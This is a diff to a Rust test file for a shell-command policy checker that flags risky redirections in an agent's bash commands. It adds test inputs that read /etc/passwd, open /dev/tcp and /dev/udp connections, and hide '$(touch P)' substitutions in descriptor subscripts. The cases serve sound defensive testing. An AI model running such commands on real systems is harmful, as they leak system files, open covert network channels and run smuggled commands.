@@ -9,9 +9,13 @@ use super::*;
 
 /// Redirection targets as the bash tool checks them, for a workspace at `/ws`: relative
 /// paths without `..` are inside.
-fn in_workspace(target: &str) -> Option<String> {
+fn in_workspace(target: &str, usage: TargetUse) -> Option<String> {
     let inside = !target.starts_with('/') && !target.split('/').any(|c| c == "..");
-    (!inside).then(|| format!("writes outside the workspace ({target})"))
+    let verb = match usage {
+        TargetUse::Read => "reads",
+        TargetUse::Write => "writes",
+    };
+    (!inside).then(|| format!("{verb} outside the workspace ({target})"))
 }
 
 fn check(command: &str) -> CommandAnalysis {
@@ -125,6 +129,115 @@ fn lines_and_what_the_policy_sees() {
             "cd /etc && echo x > hosts",
             &["cd", "echo", ">"],
             "ask: changes directory",
+        ),
+        // Named descriptors: bash reads `{NAME[SUBSCRIPT]}>` as one and evaluates the
+        // subscript, which runs commands through `$_` or a substitution.
+        (
+            "ls 'a[$(touch P)]'; ls {a[_]}>/dev/null",
+            &["ls"],
+            "ask: named descriptor",
+        ),
+        ("ls {a}>out.txt", &["ls", ">"], "ask: named descriptor"),
+        ("ls {fd}>&-", &["ls"], "ask: named descriptor"),
+        ("ls {a[$_]}<in.txt", &["ls"], "ask: named descriptor"),
+        (
+            "ls {a[$(touch P)]}>>f",
+            &["ls", "touch", ">"],
+            "ask: named descriptor",
+        ),
+        ("[ x {a[$_]}>f ]", &["["], "ask: named descriptor"),
+        ("{a}>f ls", &["a}", ">"], "ask: named descriptor"),
+        // A descriptor number the grammar took for an argument.
+        ("ls 0<in.txt", &["ls"], "ask: descriptor number the parser"),
+        // `>&WORD` / `<&WORD` with a word that is no descriptor: expanded twice.
+        (
+            "ls >&'$(touch P)'",
+            &["ls", ">"],
+            "ask: expands a second time",
+        ),
+        (
+            "ls 2>&'$HOME/x'",
+            &["ls", ">"],
+            "ask: expands a second time",
+        ),
+        (
+            "cat <&'$(touch P)'",
+            &["cat", ">"],
+            "ask: expands a second time",
+        ),
+        ("ls >&$F", &["ls", ">"], "ask: expands a second time"),
+        ("ls >&2 2>&- 3>&1-", &["ls"], "plain"),
+        ("ls &> '$(touch P)'", &["ls", ">"], "plain"),
+        // Input redirections: the target check reads them too.
+        (
+            "cat < /dev/null && head -c 4 < /dev/urandom",
+            &["cat", "head"],
+            "plain",
+        ),
+        ("cat < /dev/stdin", &["cat"], "plain"),
+        ("ls 2>&1 >/dev/stderr", &["ls"], "plain"),
+        (
+            "sort < /etc/passwd",
+            &["sort", "<"],
+            "ask: reads outside the workspace (/etc/passwd)",
+        ),
+        (
+            "cat < ../x",
+            &["cat", "<"],
+            "ask: reads outside the workspace",
+        ),
+        (
+            "cat < $F",
+            &["cat", "<"],
+            "ask: reads a file only known at run time",
+        ),
+        (
+            "cd sub && sort < in.txt",
+            &["cd", "sort", "<"],
+            "ask: reads a relative path in a command that changes directory",
+        ),
+        (
+            "cat f 3</dev/tcp/h/80 >&3",
+            &["cat", "<"],
+            "ask: opens a network connection (/dev/tcp/h/80)",
+        ),
+        (
+            "echo x > /dev/udp/h/53",
+            &["echo", ">"],
+            "ask: opens a network connection",
+        ),
+        ("ls 3<>f", &["ls", ">"], "ask: could not parse"),
+        (
+            "ls 3<> /etc/x",
+            &["ls", ">"],
+            "ask: writes outside the workspace (/etc/x)",
+        ),
+        // `/dev/fd/N` reopens what descriptor N is: harmless only while no redirection
+        // of the line opened N on a file.
+        (
+            "echo x 3<~/.bashrc >>/dev/fd/3",
+            &["echo", "<", ">"],
+            "ask: descriptor 3",
+        ),
+        (
+            "echo x 3<in.txt >>/dev/fd/3",
+            &["echo", ">"],
+            "ask: writes to /dev/fd/3, which is descriptor 3",
+        ),
+        (
+            "ls 1<in.txt >>/dev/stdout",
+            &["ls", ">"],
+            "ask: descriptor 1",
+        ),
+        (
+            "echo x 5>out.txt 6>&5 >/dev/fd/6",
+            &["echo", ">"],
+            "ask: descriptor 6",
+        ),
+        (
+            "cat 0</dev/fd/4 4<in.txt >>/dev/stdin",
+            &["cat", "<", ">"],
+            "ask: descriptor 0",
         ),
         // Not plain: asked every time, with the reason.
         ("ls \r# ; touch P", &["ls"], "ask: control character \\r"),
@@ -645,6 +758,10 @@ fn blocked_patterns() {
         (&["docker"], "echo docker", None),
         (&[">"], "echo x > f", Some(">")),
         (&[">"], "echo x 2>&1", None),
+        (&[">"], "ls >&'$(x)'", Some(">")),
+        (&["<"], "cat < /etc/passwd", Some("<")),
+        (&["<"], "sort < in.txt", None),
+        (&[">"], "sort < /etc/passwd", None),
         (&["", "  "], "ls", None),
         (&["sudo"], "sudo ls", Some("sudo")),
         (&["curl"], "ls | xargs curl", Some("curl")),
